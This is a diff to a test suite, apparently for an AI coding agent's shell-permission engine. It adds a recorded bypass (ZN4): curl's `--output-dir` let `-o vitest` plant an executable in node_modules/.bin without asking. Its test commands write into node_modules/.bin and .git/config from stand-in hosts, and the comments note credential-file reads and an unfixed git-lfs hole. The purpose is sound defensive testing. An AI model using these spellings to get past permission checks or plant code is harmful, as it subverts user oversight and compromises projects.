@@ -52,6 +52,14 @@
  *           working and `-C` folders by default), and a `--suffix` other than git's own (.patch,
  *           .diff; none lets the subject end the name) leaves the command unproven.
  *
+ * ZN4 FIXED ZN3's class in curl: `--output-dir` holds the files of -o as well as -O's (curl joins the
+ *           two, whatever -o gives), and the engine judged `-o vitest` as ./vitest and the folder as
+ *           a file written. In acceptEdits with `Bash(curl:*)`, `curl -o vitest --output-dir
+ *           node_modules/.bin https://…` ran unasked and wrote node_modules/.bin/vitest — the
+ *           program `npm test` runs by name (the oracle: curl 7.88 wrote it, offline, from a file://
+ *           URL). Rule: with --output-dir, each -o/--output file (but `-`) is judged as the file in
+ *           that folder, as -O's names already were.
+ *
  * Tried (about 990 commands through the engine, about 1,000 verdicts, in default, acceptEdits and
  * bypassPermissions with rules naming echo, cat, printf, ls, git, `git status`, `git log`, grep, find,
  * sed, awk, env, timeout, nice, nohup, stdbuf, time, command, xargs, head, jq, sort, diff, tar, date,
@@ -71,9 +79,9 @@
  * variables (bash as the oracle in a user namespace: none ran the substitution), set -k/-a/-o
  * history, coproc, `|&`, `>|`, `&>`; reads of 120 credential files in the home by `Bash(cat:*)`
  * (allowed by the engine by design; the sandbox hides the home). Through the bin: 2 runs (one without
- * the sandbox for ZN1, ZN2 and ZN3, one with it for ZN1 and ZN2). Got past: 3 classes (ZN1: 6
+ * the sandbox for ZN1 to ZN4, one with it for ZN1 and ZN2). Got past: 4 findings in 3 classes (ZN1: 6
  * spellings — Write, Edit, echo, sed -i, cp, in 2 modes; ZN2: 6 files; ZN3: 5 spellings — -o, -C,
- * cd, .bin, --suffix), all fixed.
+ * cd, .bin, --suffix; ZN4: 4 spellings of -o and --output-dir), all fixed.
  *
  * NOT FIXED (for the lead):
  * - git-lfs reads `.lfsconfig` from the work tree (lfs.url: where it fetches and pushes, and sends
@@ -169,7 +177,7 @@ const LOCKFILES = [
   "Package.resolved",
 ];
 
-/** One run of the bin for ZN1's, ZN2's and ZN3's cases (acceptEdits without the sandbox, `Bash(echo:*)`, `Bash(git:*)`): no call changes what another reads. */
+/** One run of the bin for ZN1's to ZN4's cases (acceptEdits without the sandbox, `Bash(echo:*)`, `Bash(git:*)`, `Bash(curl:*)`): no call changes what another reads. */
 const binRun = batch([
   "--no-sandbox",
   "--permission-mode",
@@ -177,6 +185,7 @@ const binRun = batch([
   "--allowedTools",
   "Bash(echo:*)",
   "Bash(git:*)",
+  "Bash(curl:*)",
 ]);
 const zn1Run = binRun.add([
   { name: "Write", input: { file_path: "package-lock.json", content: JSON.stringify(lock("../attacker", true)) } },
@@ -469,8 +478,78 @@ describe("ZN3: git format-patch names the files it writes in the folder it is gi
     expect(out[0]!.isError, out[0]!.content).toBe(false);
     expect(out.slice(1, 4).every((o) => o.isError)).toBe(true);
     expect(readdirSync(join(cwd, SITE))).toEqual([]);
-    expect(existsSync(join(cwd, "node_modules"))).toBe(false);
+    expect(existsSync(join(cwd, "node_modules", ".bin", "0001-fix-typo.patch"))).toBe(false);
     expect(out[4]!.isError).toBe(false);
     expect(readdirSync(join(cwd, "patches"))).toEqual(["0001-fix-typo.patch"]);
+  });
+});
+
+// ── ZN4 ──────────────────────────────────────────────────────────────────────────────────────────
+
+const NO_CURL = spawnSync("curl", ["--version"], { env: { PATH } }).status !== 0 ? "curl is not installed" : undefined;
+
+const zn4Run = binRun.add((p) => [
+  `curl -s --create-dirs -o vitest --output-dir node_modules/.bin file://${p.cwd}/notes.txt`,
+  // The control: a download into a folder of its own.
+  `curl -s --create-dirs -o notes.copy --output-dir downloads file://${p.cwd}/notes.txt`,
+]);
+
+describe("ZN4: curl's --output-dir holds -o's file too", () => {
+  it.skipIf(NO_USERNS || NO_CURL)(
+    "the oracle: `-o vitest --output-dir node_modules/.bin` writes node_modules/.bin/vitest",
+    () => {
+      const p = project();
+      const run = spawnSync(
+        "unshare",
+        [...["-U", "--map-user=1000", "--map-group=1000", "-n"], "curl", "-s", "--create-dirs", "-o", "vitest"].concat([
+          "--output-dir",
+          join("node_modules", ".bin"),
+          `file://${p.cwd}/notes.txt`,
+        ]),
+        { cwd: p.cwd, env: { PATH } },
+      );
+      expect(run.status).toBe(0);
+      expect(readFileSync(join(p.cwd, "node_modules", ".bin", "vitest"), "utf8")).toBe("notes\n");
+      expect(existsSync(join(p.cwd, "vitest"))).toBe(false);
+    },
+  );
+
+  it("the engine: each -o file is judged in --output-dir's folder", async () => {
+    const p = project();
+    mkdirSync(join(p.cwd, "node_modules", ".bin"), { recursive: true });
+    const rules = { allow: ["Bash(curl:*)"] };
+    await expectVerdicts(
+      [
+        "curl -o vitest --output-dir node_modules/.bin https://x.example/x",
+        "curl --output-dir node_modules/.bin -so vitest https://x.example/x",
+        "curl --output-dir=node_modules/.bin --output=vitest https://x.example/x",
+        "curl -o x -o config --output-dir .git https://x.example/x https://x.example/y",
+      ],
+      "ask",
+      "acceptEdits",
+      rules,
+      p,
+    );
+    await expectVerdicts(
+      [
+        "curl -o data.json --output-dir downloads https://x.example/x",
+        "curl -o - --output-dir node_modules/.bin https://x.example/x",
+      ],
+      "allow",
+      "acceptEdits",
+      rules,
+      p,
+    );
+  });
+
+  it("through the bin (acceptEdits, no sandbox, `Bash(curl:*)`): the download into node_modules/.bin is refused; downloads/ is written", async () => {
+    const { cwd, out } = await zn4Run();
+    expect(out[0]!.isError).toBe(true);
+    expect(existsSync(join(cwd, "node_modules"))).toBe(false);
+    expect(out[1]!.isError).toBe(false);
+    // notes.txt as ZN3's commit left it (the same run).
+    expect(readFileSync(join(cwd, "downloads", "notes.copy"), "utf8")).toBe(
+      readFileSync(join(cwd, "notes.txt"), "utf8"),
+    );
   });
 });
